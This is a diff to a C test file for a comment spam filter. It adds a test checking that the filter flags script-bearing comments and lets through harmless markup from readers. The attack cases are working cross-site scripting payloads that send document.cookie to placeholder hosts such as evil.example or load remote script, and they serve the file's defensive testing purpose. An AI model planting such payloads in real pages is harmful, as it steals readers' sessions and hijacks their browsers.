@@ -360,6 +360,52 @@ test_spam_hostile_input (void)
   }
 }
 
+/* Markup that would run in a reader's browser is an attack, not a
+ * reader's; markup quoted or pasted by readers is not */
+static const Comment attacks[] = {
+  { "Nice story <script>document.location='http://evil.example/steal?c='+document.cookie</script> "
+    "<img src=x onerror=alert(2)> and <a href=\"javascript:alert(3)\">click here for the timetable</a>",
+    "Tim", "tim@example.com", NULL },
+  { "great <svg/onload=fetch('//x.example/'+document.cookie)>",
+    "a", "a@b.example", NULL },
+  { "<a href=javascript:alert(1)>timetable</a>",
+    "b", "b@b.example", NULL },
+  { "<img src=x onerror=\"this.src='//t.example/?'+document.cookie\">",
+    "c", "c@b.example", NULL },
+  { "Map <script src=\"https://evil.example/x.js\"></script>",
+    "d", "d@b.example", NULL },
+};
+
+static const Comment markup_readers[] = {
+  { "The hackers put <script> tags into the council's website, according to the report. Scary stuff.",
+    "Ann", "ann@gmail.com", NULL },
+  { "Here is the report: <a href=\"https://www.portvale.gov.uk/report\">council report</a>",
+    "Bo", "bo@gmail.com", NULL },
+  { "I work in web security: the attack you describe is called cross-site scripting, where someone "
+    "posts javascript: links or onerror handlers. Keep your browser updated.",
+    "Cy", "cy@gmail.com", NULL },
+  { "Is the onion ferry still running? <b>Important</b> for us on the island.",
+    "Di", "di@gmail.com", NULL },
+  { "The video of the launch: <iframe src=\"https://www.youtube.com/embed/abc123\"></iframe>",
+    "Ed", "ed@gmail.com", NULL },
+  { "Our template had <script src=\"app.js\"></script> twice, which broke the page.",
+    "Flo", "flo@gmail.com", NULL },
+};
+
+static void
+test_spam_attack_markup (void)
+{
+  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();
+
+  check_all_caught (attacks, G_N_ELEMENTS (attacks), markup_readers, G_N_ELEMENTS (markup_readers));
+  for (guint i = 0; i < G_N_ELEMENTS (attacks); i++)
+    {
+      g_autoptr(BylineSpamVerdict) v = classify (filter, &attacks[i]);
+
+      g_assert_true (has_reason (v, "would run in a reader"));
+    }
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -374,6 +420,7 @@ main (int   argc,
   g_test_add_func ("/spam/persistence", test_spam_persistence);
   g_test_add_func ("/spam/spot-check", test_spam_spot_check);
   g_test_add_func ("/spam/hostile-input", test_spam_hostile_input);
+  g_test_add_func ("/spam/attack-markup", test_spam_attack_markup);
 
   return g_test_run ();
 }
